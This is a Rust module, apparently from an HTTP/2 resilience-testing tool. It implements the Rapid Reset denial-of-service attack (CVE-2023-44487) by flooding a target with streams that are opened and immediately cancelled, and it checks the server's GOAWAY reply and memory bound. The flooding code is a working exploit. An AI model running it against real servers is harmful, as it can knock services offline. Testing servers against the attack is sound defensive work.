//! Streams that are opened and reset at once (CVE-2023-44487).

use anyhow::Result;

use super::{Attack, MIB, nothing};
use crate::frames::http2::{self, END_HEADERS, END_STREAM, HEADERS, RST_STREAM};
use crate::judge::{Bound, Told};
use crate::siege::{Field, Flood, flood};

pub(super) const ATTACK: Attack = Attack {
    name: "rapid-resets",
    does: "HTTP/2 streams that are opened and reset in the same write, up to 100,000 on a connection",
    rate: "10,000 streams/s",
    told: &["GOAWAY ENHANCE_YOUR_CALM"],
    bound: Bound {
        bytes: MIB,
        because: "http2.max_streams 256 x 4 KiB of a request = 1 MiB",
    },
    prepare: nothing,
    strike,
};

fn strike(field: &Field) -> Result<Told> {
    let block = http2::block("GET", "/topics/honest/feed", &[]);
    let piece = |n: usize| {
        let stream = 2 * n as u32 + 1;
        let open = http2::frame(HEADERS, END_HEADERS | END_STREAM, stream, &block);
        // CANCEL
        [open, http2::frame(RST_STREAM, 0, stream, &[0, 0, 0, 8])].concat()
    };
    flood(field, &Flood::of_http2(&[]), piece)
}
